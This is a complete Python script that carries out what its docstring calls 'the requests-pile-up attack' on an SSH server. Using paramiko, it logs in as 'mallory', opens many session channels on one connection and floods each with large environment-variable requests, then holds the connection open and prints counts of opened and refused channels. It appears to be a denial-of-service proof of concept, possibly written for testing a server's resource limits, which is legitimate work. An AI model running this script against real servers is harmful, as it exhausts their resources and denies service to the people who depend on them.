"""env_flood.py HOST PORT CHANNELS VARS SIZE: the requests-pile-up attack.

Logs in (keyboard-interactive, no questions), opens CHANNELS session
channels on the one connection, and on each sends VARS environment
variables of SIZE bytes, never starting anything. Prints one line,
"opened=N refused=M", then holds the connection open until its standard
input ends.
"""
import socket
import sys

import paramiko


def main():
    host, port, channels, nvars, size = sys.argv[1], int(sys.argv[2]), *map(int, sys.argv[3:6])
    sock = socket.create_connection((host, port), timeout=30)
    transport = paramiko.Transport(sock)
    transport.start_client(timeout=30)
    transport.auth_interactive("mallory", lambda title, instructions, prompts: [])
    value = "x" * size
    opened, refused, held = 0, 0, []
    for _ in range(channels):
        try:
            chan = transport.open_session(timeout=30)
        except paramiko.ChannelException:
            refused += 1
            continue
        opened += 1
        held.append(chan)
        for i in range(nvars):
            chan.set_environment_variable("V%d" % i, value)
    # A request that needs an answer: once it comes, the server has had
    # every env request before it.
    for chan in held:
        transport.global_request("keepalive@openssh.com", wait=True)
    print("opened=%d refused=%d" % (opened, refused), flush=True)
    sys.stdin.read()
    transport.close()


if __name__ == "__main__":
    main()
